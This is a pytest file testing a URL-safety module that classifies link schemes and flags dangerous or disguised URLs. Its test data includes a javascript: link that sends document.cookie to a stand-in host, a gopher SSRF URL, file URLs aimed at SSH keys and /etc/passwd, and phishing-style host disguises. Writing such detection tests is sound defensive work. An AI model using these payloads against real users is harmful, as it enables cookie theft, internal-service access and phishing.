import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentric.policy.readers.places.schemes import (
    danger,
    disguise,
    is_plain,
    local_scheme,
    named_before_host,
    scheme,
    schemes_in,
)


@pytest.mark.parametrize(
    ("link", "name"),
    [
        ("https://a.example", "https"),
        (" \x01java\nscript:alert(1)", "javascript"),
        ("DATA:text/html,x", "data"),
        ("\\\\files.example\\share", "smb"),
        ("a.example/x", ""),
        ("", ""),
    ],
)
def test_a_scheme_is_read_as_a_browser_reads_it(link: str, name: str) -> None:
    assert scheme(link) == name


@pytest.mark.parametrize(
    ("link", "why"),
    [
        ("gopher://127.0.0.1:6379/_x", "the scheme gopher:"),
        ("search-ms:query=x", "the scheme search-ms:"),
        ("\\\\10.0.0.1\\c", "the scheme smb:"),
        ("file://nas.example/x", "a file on another machine"),
        ("file:///home/u/.ssh/id_rsa", "a file that keeps secrets"),
        ("file:///%65tc/passwd", "a file that keeps secrets"),
        ("javascript:fetch('//c.test/'+document.cookie)", "a script that reads or sends what the page holds"),
        ("data:text/html,<script>localStorage.x</script>", "a script that reads or sends what the page holds"),
    ],
)
def test_what_only_attacks_use_is_dangerous(link: str, why: str) -> None:
    assert danger(link) == why


@pytest.mark.parametrize(
    "link",
    [
        "https://a.example/?q=document.cookie",
        "file:///srv/out/report.html",
        "file://localhost/srv/a.txt",
        "javascript:void(0)",
        "data:image/png;base64,aaaa",
        "view-source:https://a.example",
        "mailto:dana@a.example",
        "ssh://git@a.example/x",
    ],
)
def test_other_urls_are_not_dangerous(link: str) -> None:
    assert danger(link) == ""


def test_schemes_that_lead_to_no_server_are_told() -> None:
    assert local_scheme("file:///a") == "file"
    assert local_scheme("javascript:void(0)") == "javascript"
    assert local_scheme("https://a.example") == ""
    assert local_scheme("about:blank") == ""
    assert local_scheme("data:image/png;base64,aaaa") == ""
    assert local_scheme(" DATA:image/svg+xml,x") == "data"


@pytest.mark.parametrize(
    ("link", "how"),
    [
        ("https:\\\\evil.test", "a backslash before the path"),
        ("https:/\\evil.test", "a backslash before the path"),
        ("https://evil.test\\@a.example/", "a backslash before the path"),
        ("https://a.exa\u200bmple/", "invisible characters in the host"),
        ("https://a.exa\tmple/", "invisible characters in the host"),
        ("https://%65vil.test/", "a host in percent-encoding"),
    ],
)
def test_a_disguise_is_told(link: str, how: str) -> None:
    assert disguise(link) == how


@pytest.mark.parametrize(
    "link",
    [
        "https://a.example/b\\c",
        "https:\\/\\/a.example\\/x",
        "https://a.example/%41?q=\u200b#\\",
        "https://user%40corp.example@a.example/",
        "javascript:a\\b",
        "a.example",
        "\n https://a.example ",
    ],
)
def test_an_honest_url_has_none(link: str) -> None:
    assert disguise(link) == ""


@pytest.mark.parametrize(
    ("link", "host"),
    [
        ("https://bank.example@evil.test/", "bank.example"),
        ("https://bank.example:443@evil.test/", "bank.example"),
        ("https://oauth2:token@git.example/", ""),
        ("https://me%40bank.example:pw@a.example/", ""),
        ("https://first.last@a.example/", ""),
        ("https://a.example/@bank.example", ""),
        ("https://a.example", ""),
    ],
)
def test_a_site_before_the_host_is_told(link: str, host: str) -> None:
    found = named_before_host(link)
    assert (found.host if found else "") == host


def test_schemes_of_a_text_are_those_with_a_colon() -> None:
    assert schemes_in("Open chrome://settings and File:///x, not data") == {"chrome", "file"}


@given(st.text(st.characters(), max_size=200) | st.from_regex(r"[a-z\\/:@%.\x00-\x20\ud800]{0,60}"))
def test_nothing_raises(link: str) -> None:
    for read in (scheme, local_scheme, danger, disguise, named_before_host, schemes_in):
        read(link)


@given(st.from_regex(r"(https?|file|HTTP):[/\\\\]{0,3}[a-z@.%\u200b]{0,12}[:/?#]?.{0,8}"))
def test_there_is_nothing_to_tell_of_a_plain_url(link: str) -> None:
    if is_plain(link):
        assert (danger(link), local_scheme(link), disguise(link), named_before_host(link)) == ("", "", "", None)
